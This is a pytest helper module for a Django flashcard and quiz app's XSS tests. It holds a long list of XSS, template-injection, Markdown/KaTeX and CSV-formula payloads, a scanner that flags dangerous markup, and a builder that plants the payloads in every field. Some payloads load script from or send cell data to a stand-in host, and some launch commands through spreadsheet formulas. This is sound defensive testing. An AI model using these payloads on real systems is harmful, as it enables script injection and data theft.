"""Shared by the XSS tests (test_xss_*.py): the payloads, the scanner that finds markup a payload could have
introduced in a page, the report that gathers its problems over many pages, and the world that stores the payloads
in every displayed field (built by _build_world; each test file wraps it in a module-scoped fixture of its own that
rolls it back at the end).
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from html.parser import HTMLParser

import pytest
from django.contrib.auth import get_user_model
from django.test import Client

from apps.cohorts import services as cohorts
from apps.cohorts.models import Assignment, Cohort
from apps.content.models import Card, Deck
from apps.content.services import card_save
from apps.quiz import services as quiz
from apps.quiz.reports import card_report_submit
from tests.conftest import instructors_group

PAYLOADS = [
    # script tags, in many spellings
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    '<script/xss src="//evil.example/x.js"></script>',
    '<script type="text/javascript">alert(1);</script>',
    "</script><script>alert(1)</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<IMG SRC=javascript:alert('XSS')>",
    "<img src=`x`onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<x onclick=alert(1)>x</x>",
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    # svg and math
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">CLICK</math>',
    # javascript: and data: URLs
    '<a href="javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
    '<a href=" javascript:alert(1)">space</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    # attribute breakouts
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)' x='",
    '" onfocus="alert(1)" autofocus="',
    "`><img src=x onerror=alert(1)>",
    # frames, objects and friends
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    # CSS
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<div style="width: expression(alert(1));">css</div>',
    '<span style="background-image: url(javascript:alert(1))">css</span>',
    # entities and closing tags of the surrounding markup
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "\u202e<script>alert(1)</script>",
    # template injection
    "{{7*7}}",
    "{% debug %}",
    "{{1337*1337}} {{ request.META }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    # Markdown links and images
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '![img](x" onerror="alert(1))',
    "![img](javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[ref][x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    # TeX commands that make links or attributes (KaTeX runs untrusted)
    "$\\href{javascript:alert(1)}{click}$",
    "$\\url{javascript:alert(1)}$",
    "$\\htmlData{onload=alert(1)}{x}$",
    # spreadsheet formulas, for the CSV exports
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]

# User names may hold only letters, digits and @.+-_; these start like formulas.
USERNAMES = ["@alice+1", "-2+3", "+cmd", "@SUM", "-1+1@x.y", "..@@++--__"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEMPLATE_PAYLOADS = ["{{7*7}}", "{% debug %}"]

User = get_user_model()


# --- the scanner ---------------------------------------------------------------------------

URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "lowsrc", "dynsrc",
    "codebase", "cite", "longdesc", "ping", "manifest", "icon", "to", "from", "values", "srcset",
}  # fmt: skip
BAD_SCHEMES = ("javascript:", "vbscript:", "livescript:", "data:")
BAD_TAGS = {
    "iframe", "frame", "frameset", "object", "embed", "applet", "base", "foreignobject", "animate",
    "animatemotion", "animatetransform", "set", "handler", "listener", "portal", "bgsound", "x", "xss",
    "noscript", "mglyph", "malignmark",
}  # fmt: skip
BAD_CSS = ("expression(", "javascript:", "url(", "behavior:", "-moz-binding", "@import")
# What evaluated template syntax would print: {{1337*1337}}, or {% debug %}'s dump of the context.
EVALUATED = ("1787569", "sql_queries", "'csrf_token':", "<django.")


class Scanner(HTMLParser):
    """Collects markup a payload could have introduced, and the page's visible text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []
        self._cdata: tuple[str, dict] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        where = self.get_starttag_text() or tag
        if tag in BAD_TAGS:
            self.problems.append(f"<{tag}> element: {where}")
        if tag == "script":
            src = values.get("src", "")
            is_data = values.get("type", "").lower() == "application/json" and not src
            same_site = src.startswith("/") and not src.startswith("//")
            if not is_data and not same_site:
                self.problems.append(f"script not served by the site: {where}")
        if tag == "meta" and "http-equiv" in values:
            self.problems.append(f"meta http-equiv: {where}")
        if tag == "link" and not values.get("href", "").startswith("/"):
            self.problems.append(f"link to another origin: {where}")
        for name, value in values.items():
            if name.startswith("on") or name.startswith(("hx-on", "data-hx-on")):
                self.problems.append(f"event handler attribute {name}: {where}")
            if name == "srcdoc":
                self.problems.append(f"srcdoc attribute: {where}")
            if name in URL_ATTRIBUTES:
                # Browsers ignore whitespace and control characters inside and before a scheme.
                squeezed = re.sub(r"[\x00-\x20\x7f]+", "", value).lower()
                if squeezed.startswith(BAD_SCHEMES):
                    self.problems.append(f"{name}={value!r}: {where}")
            if name == "style" and any(bad in value.replace(" ", "").lower() for bad in BAD_CSS):
                self.problems.append(f"style attribute {value!r}: {where}")
        if tag in ("script", "style"):
            self._cdata = (tag, values)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        self._cdata = None

    def handle_endtag(self, tag: str) -> None:
        if self._cdata and self._cdata[0] == tag:
            self._cdata = None

    def handle_data(self, data: str) -> None:
        if self._cdata is None:
            self.text.append(data)
            return
        tag, values = self._cdata
        if tag == "script" and data.strip() and values.get("type", "").lower() != "application/json":
            self.problems.append(f"inline script: {data[:80]!r}")
        # Markup inside <style> is how namespace-confusion (mXSS) payloads smuggle elements.
        if tag == "style" and ("<" in data or any(bad in data.replace(" ", "").lower() for bad in BAD_CSS)):
            self.problems.append(f"style element: {data[:80]!r}")

    def visible_text(self) -> str:
        return " ".join(" ".join(self.text).split())


def scan(html: str) -> Scanner:
    scanner = Scanner()
    scanner.feed(html)
    scanner.close()
    text = scanner.visible_text()
    scanner.problems += [f"evaluated template syntax {mark!r} in the text" for mark in EVALUATED if mark in text]
    return scanner


def flat(text: str) -> str:
    return " ".join(text.split())


@dataclass
class Report:
    """Problems across many pages, reported together so one run shows them all."""

    problems: list[str] = field(default_factory=list)
    pages: int = 0

    def check(self, response, where: str, *, expect: tuple[str, ...] = (), statuses=(200,)) -> Scanner:
        self.pages += 1
        if response.status_code not in statuses:
            self.problems.append(f"{where}: status {response.status_code}")
        scanner = scan(response.content.decode())
        self.problems += [f"{where}: {problem}" for problem in scanner.problems]
        text = scanner.visible_text()
        self.problems += [f"{where}: {wanted!r} is not shown as text" for wanted in expect if flat(wanted) not in text]
        return scanner

    def assert_clean(self, minimum_pages: int) -> None:
        assert self.pages >= minimum_pages, f"only {self.pages} pages were checked"
        assert not self.problems, f"{len(self.problems)} problems:\n" + "\n".join(self.problems[:60])


# --- the world -----------------------------------------------------------------------------


@dataclass
class World:
    instructor: object
    superuser: object
    student: object
    others: list
    decks: list[Deck]
    cards: list[Card]
    cohort: Cohort
    cohorts: list[Cohort]


def _user(username: str, **fields):
    # No password: hashing one per user would cost more than the whole module's checks.
    return User.objects.create_user(username=username, email=f"{len(username)}-{username}@example.com", **fields)


def _build_world() -> World:
    for name in USERNAMES:
        User.username_validator(name)  # only names the site itself would accept
    instructor = _user("carol", is_staff=True, first_name=PAYLOADS[0][:150], last_name=PAYLOADS[8][:150])
    instructor.groups.add(instructors_group())
    superuser = User.objects.create_superuser(username="root", email="root@example.com", password=None)
    student = _user(USERNAMES[0], first_name=PAYLOADS[30][:150], last_name=PAYLOADS[31][:150])
    others = [
        _user(name, first_name=PAYLOADS[i][:150], last_name=PAYLOADS[-i][:150])
        for i, name in enumerate(USERNAMES[1:], 1)
    ]

    decks, cards = [], []
    for i, payload in enumerate(PAYLOADS):
        # Numbered: payloads that differ only in letter case would be two decks of one title.
        deck = Deck.objects.create(title=f"{payload[:190]} {i}", slug=f"xss-{i}", description=payload)
        kind = Card.Kind.FLASHCARD if i % 2 == 0 else Card.Kind.SYLLABUS
        card = card_save(
            card=Card(deck=deck, position=1, kind=kind, question=f"Question {i}", answer=f"Answer {i}"),
            author=instructor,
        )
        # A second version puts the payload in every field, so the version diff shows it too.
        card.question = card.answer = card.explanation = payload
        card.short_answer = payload[:300]
        card_save(
            card=card,
            author=instructor,
            note=payload[:200],
            aliases=[payload[:300]],
            distractors=[f"{payload} ·1", f"·2 {payload}", f"{payload} ·3"],
            key_terms=[payload[:200]],
        )
        decks.append(deck)
        cards.append(card)

    cohort = cohorts.cohort_create(name=PAYLOADS[-5], instructor=instructor)
    for deck in decks:
        Assignment.objects.create(cohort=cohort, deck=deck)
    for user in (student, *others):
        cohorts.cohort_join(student=user, code=cohort.join_code)
    # One instructor has one cohort of a name, letter case aside: a payload that differs from another only so,
    # or repeats the main cohort's, gets a mark after it, itself intact.
    seen: set[str] = set()
    names = []
    for payload in PAYLOADS:
        name = payload[:116]
        while name.strip().lower() in seen | {PAYLOADS[-5].strip().lower()}:
            name += " ·2"
        seen.add(name.strip().lower())
        names.append(name)
    named = [cohorts.cohort_create(name=name, instructor=instructor) for name in names]
    for each in named:
        cohorts.cohort_join(student=student, code=each.join_code)

    for i, deck in enumerate(decks):
        choice = quiz.session_start(user=student, deck=deck, size=1, mode="choice", order="new")
        item = choice.items.get()
        wrong = (item.correct_option + 1) % len(item.options) if item.mode == "choice" else None
        submission = quiz.Submission(option=wrong) if item.mode == "choice" else quiz.Submission(response="no idea")
        quiz.answer_submit(user=student, session_id=choice.pk, position=1, submission=submission)
        recall = quiz.session_start(user=student, deck=deck, size=1, mode="recall", order="new")
        response = PAYLOADS[(i + 1) % len(PAYLOADS)][:2000]
        quiz.answer_submit(
            user=student, session_id=recall.pk, position=1, submission=quiz.Submission(response=response)
        )
        if i % 2:
            quiz.answer_override(user=student, session_id=recall.pk, position=1, verdict="correct")
    for n, user in enumerate(others):
        deck = decks[n]
        session = quiz.session_start(user=user, deck=deck, size=1, mode="recall", order="new")
        quiz.answer_submit(
            user=user, session_id=session.pk, position=1, submission=quiz.Submission(response=PAYLOADS[-n - 1])
        )
        card_report_submit(user=user, item=session.items.get(), message=PAYLOADS[n][:1000])
    return World(instructor, superuser, student, others, decks, cards, cohort, named)


def _client(user=None) -> Client:
    client = Client()
    if user is not None:
        client.force_login(user)
    return client


HTMX = {"HTTP_HX_REQUEST": "true"}
pytestmark = pytest.mark.django_db
